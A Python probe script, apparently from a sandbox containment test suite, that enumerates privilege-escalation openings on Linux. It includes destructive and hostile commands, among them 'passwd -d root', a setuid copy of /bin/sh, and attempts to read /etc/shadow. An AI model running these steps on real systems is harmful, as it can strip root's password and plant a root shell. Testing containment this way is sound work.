"""Looks for a way to become somebody else: set-id programs, capabilities, namespaces."""
import os
import stat
import subprocess

from hostile import ask, attempt, end, found, tried

ask()
for folder, folders, names in os.walk("/"):
    if folder in ("/proc", "/sys"):
        folders.clear()
        continue
    for name in names + folders:
        path = os.path.join(folder, name)
        try:
            info = os.lstat(path)
            tried()
            if stat.S_ISREG(info.st_mode) and info.st_mode & (stat.S_ISUID | stat.S_ISGID):
                found("a set-id program: " + path)
            if stat.S_ISREG(info.st_mode) and "security.capability" in os.listxattr(path, follow_symlinks=False):
                found("a program with capabilities: " + path)
            if not stat.S_ISLNK(info.st_mode) and info.st_uid == 0 and os.access(path, os.W_OK) and \
                    not path.startswith(("/dev/", "/proc/")):
                found("a file of root's that can be written: " + path)
        except OSError:
            pass
for line in open("/proc/self/status"):
    if line.startswith(("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")) and int(line.split()[1], 16):
        found("capabilities: " + line)
    if line.startswith(("NoNewPrivs", "Seccomp:")) and line.split()[1] == "0":
        found("not locked: " + line)
for argv in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"], ["newgrp", "root"], ["passwd", "-d", "root"],
             ["chsh", "-s", "/bin/sh", "root"], ["mount", "-t", "tmpfs", "none", "/mnt"],
             ["unshare", "-r", "id", "-u"], ["setpriv", "--reuid", "0", "id", "-u"]):
    tried()
    try:
        done = subprocess.run(argv, stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
    except (OSError, subprocess.TimeoutExpired):
        continue
    if done.returncode == 0:
        found("%s works: %r" % (argv[0], done.stdout))
shell = "/tmp/sh"
with open("/bin/sh", "rb") as src, open(shell, "wb") as dst:
    dst.write(src.read())
os.chmod(shell, 0o6755)
for name in ("root", "shadow", "gshadow"):
    attempt("reading " + name, open, "/root/." if name == "root" else "/etc/" + name)
end()
